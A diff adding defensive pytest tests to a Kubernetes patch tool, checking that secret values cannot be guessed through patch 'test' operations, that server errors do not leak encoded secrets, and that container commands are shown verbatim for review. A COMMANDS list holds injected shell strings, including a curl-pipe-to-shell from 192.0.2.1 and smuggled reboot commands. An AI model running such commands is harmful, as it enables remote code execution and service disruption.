@@ -668,6 +668,51 @@ async def test_no_patch_moves_what_is_hidden_to_where_it_would_be_shown(
     assert not any(hidden in said for hidden in (SECRET, ENCODED))
 
 
+@pytest.mark.parametrize("guess", [ENCODED, "eA=="])
+@pytest.mark.parametrize("moved", [False, True])
+async def test_no_patch_tells_whether_a_hidden_value_was_guessed(tmp_path: Path, guess: str, moved: bool) -> None:
+    note = "/metadata/annotations"
+    copies = [{"op": "copy", "from": "/data/password", "path": note}, {"op": "test", "path": note, "value": guess}]
+    patch = copies if moved else [{"op": "test", "path": "/data/password", "value": guess}]
+    async with shop(tmp_path) as scene:
+        await made(scene.cluster, NAMED)
+        given = {**IN_SHOP, "kind": "secret", "name": "login", "type": "json", "patch": json.dumps(patch)}
+        assert "test would compare what is hidden" in await scene.fail("k8s_patch", **given, dry_run=True)
+        assert scene.way.checks == []
+
+
+async def test_what_a_server_says_of_a_hidden_value_is_not_passed_on(tmp_path: Path) -> None:
+    async def refuses(request: httpx.Request) -> httpx.Response | None:
+        said = {"kind": "Status", "status": "Failure", "reason": "Invalid", "code": 422, "message": f"bad: {ENCODED}!"}
+        return httpx.Response(422, json=said) if is_check(request) else None
+
+    async with shop(tmp_path) as scene:
+        await made(scene.cluster, NAMED)
+        scene.way.before = refuses
+        patch = json.dumps({"metadata": {"labels": {"a": "b"}}})
+        said = await scene.fail("k8s_patch", **IN_SHOP, kind="secret", name="login", patch=patch)
+    assert "bad:" in said
+    assert ENCODED not in said
+
+
+COMMANDS = ["password=abc;curl${IFS}192.0.2.1|sh", "token=x`reboot`", "PASSWORD=a; reboot -f"]
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+@pytest.mark.parametrize("type_", ["json", "strategic"])
+async def test_a_command_is_shown_as_it_was_supplied_in_every_type_of_patch(
+    tmp_path: Path, type_: str, command: str
+) -> None:
+    person = Person()
+    words = ["sh", "-c", command]
+    operations = [{"op": "add", "path": "/spec/template/spec/containers/0/command", "value": words}]
+    fields = {"spec": {"template": {"spec": {"containers": [{"name": "web", "command": words}]}}}}
+    patch = json.dumps(operations if type_ == "json" else fields)
+    async with shop(tmp_path, person=person) as scene:
+        await scene.call("k8s_patch", **CART_ARGS, kind="deploy", type=type_, patch=patch)
+    assert command in person.read[0]
+
+
 async def test_a_value_that_the_caller_writes_itself_may_be_shown(tmp_path: Path) -> None:
     async with shop(tmp_path) as scene:
         await made(scene.cluster, NAMED)
